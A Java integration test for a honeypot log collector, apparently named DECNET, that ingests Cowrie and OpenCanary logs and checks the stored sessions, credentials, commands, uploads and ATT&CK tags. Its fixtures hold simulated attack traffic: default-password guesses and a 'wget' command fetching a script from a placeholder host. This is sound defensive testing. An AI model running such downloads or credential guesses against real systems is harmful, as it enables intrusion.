package decnet.images;

import static decnet.testing.Await.await;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** Logs of other honeypots, followed by the linked whole, become sessions, credentials, commands and uploads; so do old ones brought in. */
final class SourcesIT {
    private static final String AT = "\"timestamp\":\"2026-11-19T10:00:0";
    private static final String OF =
            "\"sensor\":\"liar\",\"session\":\"a1b2c3\",\"src_ip\":\"203.0.113.5\",\"protocol\":\"ssh\",";
    private static final String COWRIE =
            "{\"eventid\":\"cowrie.session.connect\",\"src_port\":4242,\"dst_ip\":\"192.0.2.7\",\"dst_port\":2222," + OF
                    + AT
                    + "0.000000Z\"}\n"
                    + "{\"eventid\":\"cowrie.login.failed\",\"username\":\"root\",\"password\":\"admin\"," + OF + AT
                    + "1.000000Z\"}\n"
                    + "{\"eventid\":\"cowrie.login.success\",\"username\":\"root\",\"password\":\"toor\"," + OF + AT
                    + "2.000000Z\"}\n"
                    + "{\"eventid\":\"cowrie.command.input\",\"input\":\"wget http://203.0.113.9/x.sh\"," + OF + AT
                    + "3.000000Z\"}\n"
                    + "{\"eventid\":\"cowrie.session.file_download\",\"url\":\"http://203.0.113.9/x.sh\",\"shasum\":\""
                    + "ab".repeat(32) + "\"," + OF + AT
                    + "4.000000Z\"}\n"
                    + "{\"eventid\":\"cowrie.session.closed\",\"duration_ms\":5000," + OF + AT + "5.000000Z\"}\n";
    private static final String OPENCANARY =
            "{\"node_id\":\"liar\",\"local_time\":\"2026-11-19 10:00:00.000000\",\"utc_time\":\"2026-11-19"
                + " 10:00:00.000000\",\"src_host\":\"203.0.113.6\",\"src_port\":5151,\"dst_host\":\"192.0.2.8\",\"dst_port\":21,\"logtype\":2000,\"logdata\":{\"USERNAME\":\"ftpuser\",\"PASSWORD\":\"letmein\"}}\n";

    @Test
    void whatOthersSawIsWhatIsStored() throws Exception {
        try (Installation decnet = Installation.empty()) {
            Path logs = Files.createDirectory(decnet.folder().resolve("logs"));
            Files.setPosixFilePermissions(logs, PosixFilePermissions.fromString("rwxr-xr-x"));
            Path cowrie = logs.resolve("cowrie.json");
            Path canary = logs.resolve("opencanary.log");
            decnet.with("DECNET_COLLECT_SOURCE_HONEY", "cowrie decky=web-07 file=" + cowrie)
                    .with("DECNET_COLLECT_SOURCE_CANARY", "opencanary decky=files-02 file=" + canary);
            Files.writeString(cowrie, COWRIE);
            Files.writeString(canary, OPENCANARY);
            decnet.up().succeeded();

            decnet.check(() -> {
                await(Duration.ofSeconds(60), () -> assertThat(
                                decnet.sql("select count(*) from event where src_ip <<= '203.0.113.0/24'"))
                        .isEqualTo("7"));
                assertThat(decnet.sql(
                                "select id, decky, service, principal, credential_count, command_count, upload_count,"
                                        + " duration_ms from session where id like 'honey/%'"))
                        .isEqualTo("honey/a1b2c3|web-07|ssh|root|2|1|1|5000");
                assertThat(decnet.sql("select principal, secret, outcome from credential where decky = 'web-07'"
                                + " order by seq"))
                        .isEqualTo("root|admin|rejected\nroot|toor|accepted");
                assertThat(decnet.sql("select command from command where decky = 'web-07'"))
                        .isEqualTo("wget http://203.0.113.9/x.sh");
                assertThat(decnet.sql("select name, sha256 from upload where decky = 'web-07'"))
                        .isEqualTo("http://203.0.113.9/x.sh|" + "ab".repeat(32));
                assertThat(decnet.sql("select principal, secret, service from credential where decky = 'files-02'"))
                        .isEqualTo("ftpuser|letmein|ftp");
                assertThat(decnet.sql("select count(*) from session where decky = 'files-02' and id like 'flow:%'"))
                        .isEqualTo("1");
                assertThat(decnet.sql("select count(*) from event where decky = 'liar' or sensor = 'liar'"))
                        .as("events of whom the lines claim to be")
                        .isEqualTo("0");
                await(Duration.ofSeconds(30), () -> assertThat(
                                decnet.sql("select technique from tag where decky = 'web-07'"))
                        .contains("T1105"));
                rotatedAndKilled(decnet, cowrie);
                broughtInTwice(decnet, logs);
            });
        }
    }

    private static void rotatedAndKilled(Installation decnet, Path cowrie) throws Exception {
        Processes.kill(decnet.pids().getOrDefault("capture", 0L));
        Files.writeString(cowrie, COWRIE.replace("a1b2c3", "second"), StandardOpenOption.APPEND);
        Files.move(cowrie, cowrie.resolveSibling("cowrie.json.1"));
        Files.writeString(cowrie, COWRIE.replace("a1b2c3", "third"));

        await(Duration.ofSeconds(60), () -> assertThat(
                        decnet.sql("select id || ' ' || event_count from session where id like 'honey/%' order by id"))
                .isEqualTo("honey/a1b2c3 6\nhoney/second 6\nhoney/third 6"));
    }

    private static void broughtInTwice(Installation decnet, Path logs) throws Exception {
        Path old = Files.writeString(logs.resolve("old.json"), COWRIE.replace("a1b2c3", "old"));
        for (int i = 0; i < 2; i++) {
            decnet.command("import", old.toString(), "--format", "cowrie", "--decky", "museum")
                    .succeeded();
        }

        await(Duration.ofSeconds(60), () -> assertThat(
                        decnet.sql("select event_count from session where decky = 'museum'"))
                .isEqualTo("6"));
        assertThat(decnet.command("export", "--query", "decky:museum", "--format", "cef")
                        .succeeded()
                        .out()
                        .lines())
                .hasSize(6)
                .allSatisfy(line -> assertThat(line).startsWith("CEF:0|"));
    }
}
